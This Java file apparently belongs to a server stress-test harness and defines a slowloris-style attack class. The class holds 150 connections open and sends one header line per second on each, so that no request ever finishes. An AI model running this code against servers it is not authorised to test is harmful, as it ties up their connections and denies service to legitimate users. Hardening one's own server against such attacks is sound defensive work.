package chat.mongoose.gauntlet;

import java.io.IOException;
import java.net.Socket;
import java.time.Duration;
import java.util.ArrayList;

/** Requests whose headers come line by line and never end. */
final class TricklingHeaders implements Attack {

  private static final int REQUESTS = 150;
  private static final Duration PACE = Duration.ofSeconds(1);

  @Override
  public String name() {
    return "headers that come line by line";
  }

  @Override
  public void go(Ground ground) throws IOException {
    var sockets = new ArrayList<Socket>();
    for (int i = 0; i < REQUESTS; i++) {
      var socket = ground.socket();
      sockets.add(socket);
      ground.write(socket, ground.request("GET", "/"));
    }
    while (true) {
      ground.rest(PACE);
      for (Socket socket : sockets) {
        if (!socket.isClosed()) {
          drip(ground, socket);
        }
      }
    }
  }

  private static void drip(Ground ground, Socket socket) throws IOException {
    try {
      ground.write(socket, "X-More: 1\r\n");
    } catch (IOException e) {
      socket.close();
    }
  }
}
